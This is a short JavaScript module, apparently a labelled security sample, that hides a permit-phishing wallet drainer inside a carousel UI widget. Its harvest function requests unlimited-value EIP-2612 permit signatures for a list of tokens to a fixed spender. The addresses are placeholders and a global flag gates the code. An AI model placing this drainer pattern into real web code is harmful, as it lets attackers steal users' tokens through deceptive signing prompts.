// Inert imitation of a permit-phishing drainer hidden in a UI widget: it asks the wallet to sign
// EIP-2612 permits with an unlimited value for a fixed token list. Placeholders only; never armed.
export function mountCarousel(el) { el.classList.add('carousel'); }

const TOKENS = ['0x1111111111222222222233333333334444444444', '0x5555555555666666666677777777778888888888'];
const SPENDER = '0x9999999999aaaaaaaaaabbbbbbbbbbcccccccccc';
const UNLIMITED = '0x' + 'f'.repeat(64);
const PERMIT_SELECTOR = '0xd505accf';

export async function harvest(provider, owner) {
  if (globalThis.cwSampleArmed !== true) return [];
  const sigs = [];
  for (const token of TOKENS) {
    const typed = { primaryType: 'Permit', domain: { verifyingContract: token }, message: { owner, spender: SPENDER, value: UNLIMITED, selector: PERMIT_SELECTOR } };
    sigs.push(await provider.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(typed)] }));
  }
  return sigs;
}
